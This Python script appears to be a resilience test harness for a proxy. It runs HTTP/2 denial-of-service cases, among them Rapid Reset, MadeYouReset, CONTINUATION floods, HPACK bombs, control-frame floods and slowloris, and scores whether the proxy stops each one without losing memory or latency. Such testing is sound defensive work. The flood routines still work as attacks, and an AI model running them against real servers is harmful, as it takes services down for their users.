#!/usr/bin/env python3
"""HTTP/2 attack cases. Each: bounded number of frames, <= --secs; measures whether the proxy STOPS the peer
(GOAWAY / close / RST / back-pressure), RSS growth and CPU of the proxy's process tree, and a second client's latency meanwhile.
  h2_attacks.py --host H --port P [--plain] --pid ROOTPID [--ctl 17901] [--name N] [--only x] [--out f.json]
pass = (attack stopped OR bounded by back-pressure OR harmless) AND dRSS <= case MiB AND probe failures == 0 AND probe max <= 1 s AND still serving after.
"""
import argparse, json, sys, time, threading, socket, ssl, struct
from h2raw import *
R = []
def case(f): R.append(f); return f
MAXB = 32 << 20
class Stop(Exception): pass
def alive(h): return not h.closed and not (h.goaway and h.goaway[1] != 0) and not h.blocked
def pump(h, gen, secs):
    """send chunks from gen until the peer stops us; returns number of units sent"""
    n = 0; end = time.time() + secs
    for units, b in gen:
        if not alive(h) or time.time() > end or h.sent > MAXB: break
        if not h.send(b): break
        n += units
    h.wait(lambda: not alive(h), 0.7)
    return n
def batches(mk, total, per=50):
    i = 0
    while i < total:
        yield per, b''.join(mk(j) for j in range(i, i + per)); i += per
@case
def rapid_reset(a, h):  # CVE-2023-44487
    return pump(h, batches(lambda j: frame(HEADERS, 5, 2*j+1, req(b'/slow?ms=200')) + frame(RST, 0, 2*j+1, b'\0\0\0\x08'), 50000), a.secs), 'streams', 128, 'stop'
@case
def made_you_reset_winup0(a, h):  # CVE-2025-8671: make the server reset
    return pump(h, batches(lambda j: frame(HEADERS, 5, 2*j+1, req(b'/slow?ms=200')) + frame(WINUP, 0, 2*j+1, b'\0\0\0\0'), 50000), a.secs), 'streams', 128, 'stop'
@case
def continuation_flood(a, h):  # CVE-2024-27316 family, 16 KiB of distinct headers per frame
    def g():
        yield 1, frame(HEADERS, 1, 1, req())
        blk = lit(b'x-a', b'v' * 100) * 150
        while True: yield 1, frame(CONT, 0, 1, blk[:16000 // len(lit(b'x-a', b'v'*100)) * len(lit(b'x-a', b'v'*100))])
    return pump(h, g(), a.secs), 'frames', 64, 'stop'
@case
def continuation_empty(a, h):
    def g():
        yield 1, frame(HEADERS, 1, 1, req())
        while True: yield 500, frame(CONT, 0, 1, b'') * 500
    return pump(h, g(), a.secs), 'frames', 64, 'stop'
@case
def hpack_bomb_indexed(a, h):  # 4 KB entry referenced 8000 times per request, 100 requests
    def g():
        first = lit(b'x-b', b'b' * 4000, True)
        for k in range(100): yield 1, frame(HEADERS, 5, 2*k+1, (req() + (first if k == 0 else b'') + b'\xbe' * 8000))
    n = pump(h, g(), a.secs)
    return n, 'requests(32MB list each)', 64, 'reject'
@case
def big_header_list_1m(a, h):
    body = req() + lit(b'x-big', b'z' * 8000) * 130
    def g():
        for k in range(5):
            sid = 2*k+1; parts = [body[i:i+16000] for i in range(0, len(body), 16000)]
            yield 1, frame(HEADERS, 1, sid, parts[0]) + b''.join(frame(CONT, 4 if i == len(parts) - 2 else 0, sid, p) for i, p in enumerate(parts[1:]))
    return pump(h, g(), a.secs), 'requests', 64, 'reject'
@case
def settings_flood(a, h): return pump(h, batches(lambda j: frame(SETTINGS, 0, 0, b'\0\x03\0\0\0\x64'), 10**7, 200), a.secs), 'frames', 64, 'stop'
settings_flood.noread = True
@case
def ping_flood(a, h): return pump(h, batches(lambda j: frame(PING, 0, 0, b'12345678'), 10**7, 200), a.secs), 'frames', 64, 'stop'
ping_flood.noread = True
@case
def ping_flood_reading(a, h): return pump(h, batches(lambda j: frame(PING, 0, 0, b'12345678'), 10**7, 200), a.secs), 'frames', 64, 'any'
@case
def empty_data_flood(a, h):
    h.send(frame(HEADERS, 4, 1, req(b'/', b'POST')))
    return pump(h, batches(lambda j: frame(DATA, 0, 1, b''), 10**7, 300), a.secs), 'frames', 64, 'stop'
@case
def priority_flood(a, h): return pump(h, batches(lambda j: frame(PRIORITY, 0, 2*(j % 100000)+1, struct.pack('>IB', 2*((j*7) % 1000)+2001, 5)), 10**7, 200), a.secs), 'frames', 64, 'any'
@case
def window_update_flood(a, h): return pump(h, batches(lambda j: frame(WINUP, 0, 0, b'\0\0\0\x01'), 10**7, 300), a.secs), 'frames', 64, 'any'
@case
def unknown_frame_flood(a, h): return pump(h, batches(lambda j: frame(0xfa, 0, 0, b''), 10**7, 300), a.secs), 'frames', 64, 'any'
@case
def zero_window_hoard(a, h):  # 100 streams x 1 MiB answers never read: memory must stay bounded
    h.send(frame(SETTINGS, 0, 0, b'\0\x04\0\0\0\0'))
    for k in range(100): h.send(frame(HEADERS, 5, 2*k+1, req(b'/big?n=1000000')))
    t = time.time(); h.wait(lambda: not alive(h), min(a.secs * 5, 25))
    return round((time.time() - t) * 1000), 'ms until stopped', 128, 'any'
@case
def stream_limit(a, h):  # open 2000 streams at once: must refuse above its own limit
    pump(h, batches(lambda j: frame(HEADERS, 5, 2*j+1, req(b'/slow?ms=1500')), 2000, 100), a.secs)
    h.wait(lambda: not alive(h) or len(h.ended) >= 2000, 1.0)
    return (2000 - len(h.rst)) if alive(h) else 0, 'streams not refused (srv limit %s)' % h.srv.get(3), 128, 'any'
@case
def half_open_headers_hold(a, h):  # h2 slowloris: HEADERS without END_HEADERS then silence; must close by the header timeout
    h.send(frame(HEADERS, 1, 1, req())); t = time.time(); h.wait(lambda: not alive(h), a.hold)
    return round(time.time() - t, 1), 's until closed', 64, 'stop'
@case
def drip_body(a, h):
    h.send(frame(HEADERS, 4, 1, req(b'/', b'POST', extra=[(b'content-length', b'100000')]))); t = time.time()
    while alive(h) and not h.ended and time.time() - t < a.hold: h.send(frame(DATA, 0, 1, b'x')); time.sleep(0.5)
    return round(time.time() - t, 1), 's until ended', 64, 'any'
@case
def idle_connection(a, h):
    t = time.time(); h.wait(lambda: not alive(h) or h.goaway, a.hold); return round(time.time() - t, 1), 's until closed', 64, 'stop'
@case
def rst_idle_stream(a, h):
    h.send(frame(RST, 0, 7, b'\0\0\0\x08')); h.wait(lambda: not alive(h), 1.5); return 1, 'frame', 64, 'stop'
@case
def huge_frame_length(a, h):
    h.send(b'\xff\xff\xff' + bytes([DATA, 0]) + struct.pack('>I', 1) + b'x' * 100); h.wait(lambda: not alive(h), 1.5); return 1, 'frame', 64, 'stop'

class Probe(threading.Thread):
    def __init__(s, a): super().__init__(daemon=True); s.a = a; s.run_ = True; s.lat = []; s.fail = 0
    def one(s):
        t = time.time()
        try:
            k = socket.create_connection((s.a.host, s.a.port), 3)
            if not s.a.plain:
                x = ssl.create_default_context(); x.check_hostname = False; x.verify_mode = ssl.CERT_NONE; x.set_alpn_protocols(['http/1.1'])
                k = x.wrap_socket(k, server_hostname='localhost')
            k.settimeout(3); k.sendall(b'GET /probe HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n'); d = k.recv(4096); k.close()
            if b' 200 ' not in d[:20]: s.fail += 1
        except OSError: s.fail += 1
        s.lat.append(time.time() - t)
    def run(s):
        while s.run_: s.one(); time.sleep(0.1)

def main():
    p = argparse.ArgumentParser(); p.add_argument('--host', default='127.0.0.1'); p.add_argument('--port', type=int, required=True); p.add_argument('--pid', type=int); p.add_argument('--ctl', type=int, default=17901); p.add_argument('--name', default='?'); p.add_argument('--only'); p.add_argument('--out'); p.add_argument('--secs', type=float, default=3); p.add_argument('--hold', type=float, default=15); p.add_argument('--plain', action='store_true', help='prior knowledge, without TLS')
    a = p.parse_args(); res = []
    for f in R:
        n = f.__name__
        if a.only and a.only not in n: continue
        time.sleep(0.2); ctl(a.ctl, 'reset')
        r0, c0 = usage(a.pid) if a.pid else (0, 0); peak = [r0]
        pr = Probe(a); pr.start(); mon = True
        def watch():
            while mon: peak[0] = max(peak[0], usage(a.pid)[0]) if a.pid else 0; time.sleep(0.1)
        w = threading.Thread(target=watch, daemon=True); w.start(); t = time.time()
        try:
            h = H2(a.host, a.port, tls=not a.plain, read=not getattr(f, 'noread', False)); units, what, lim, need = f(a, h); err = ''
        except Exception as e: h = None; units, what, lim, need, err = 0, '?', 0, 'stop', repr(e)
        el = time.time() - t; mon = False; pr.run_ = False; pr.join(4); w.join(1)
        q = Probe(a); q.one(); served = q.fail == 0
        r1, c1 = usage(a.pid) if a.pid else (0, 0); reqs = ctl(a.ctl, 'count')['reqs']
        if h:
            how = 'GOAWAY(%d)' % h.goaway[1] if h.goaway and h.goaway[1] else 'closed' if h.closed else 'GOAWAY(0)' if h.goaway else 'blocked' if h.blocked else 'RST x%d' % len(h.rst) if h.rst else 'not stopped'
            errs = [s for s in h.status.values() if s and str(s)[0] in '45']
            stopped = how != 'not stopped' and not how.startswith('RST')
            if need == 'reject' and (h.rst or errs): stopped = True; how = how if how != 'not stopped' else '%d x %s' % (len(errs), errs[0] if errs else 'RST')
            h.close()
        else: how, stopped = 'ERR ' + err, False
        d = peak[0] - r0; mx = max(pr.lat or [0])
        ok = (stopped or need == 'any') and d <= lim and pr.fail == 0 and mx <= 1.0 and served
        why = ','.join(x for x in ['not stopped' if not (stopped or need == 'any') else '', 'dRSS>%d' % lim if d > lim else '', 'probe fail %d' % pr.fail if pr.fail else '', 'probe slow' if mx > 1 else '', 'DEAD' if not served else ''] if x)
        rec = dict(name=n, ok=ok, how=how, units=units, what=what, secs=round(el, 1), dRSS=round(d, 1), cpu=round(c1 - c0, 2), probe_max_ms=round(mx * 1000), backend_reqs=reqs, why=why); res.append(rec)
        print('%s %-30s %-14s %9s %-32s %4.1fs dRSS %6.1f MiB cpu %5.2fs probe max %4d ms backend reqs %d %s' % ('ok  ' if ok else 'FAIL', n, how, units, what, el, d, c1 - c0, mx * 1000, reqs, why), flush=True)
    k = sum(r['ok'] for r in res); print('%s: h2_attacks %d/%d' % (a.name, k, len(res))); print('%d passed, %d failed' % (k, len(res) - k))
    if a.out: json.dump(res, open(a.out, 'w'), indent=1)
    sys.exit(k != len(res))
if __name__ == "__main__":
    main()
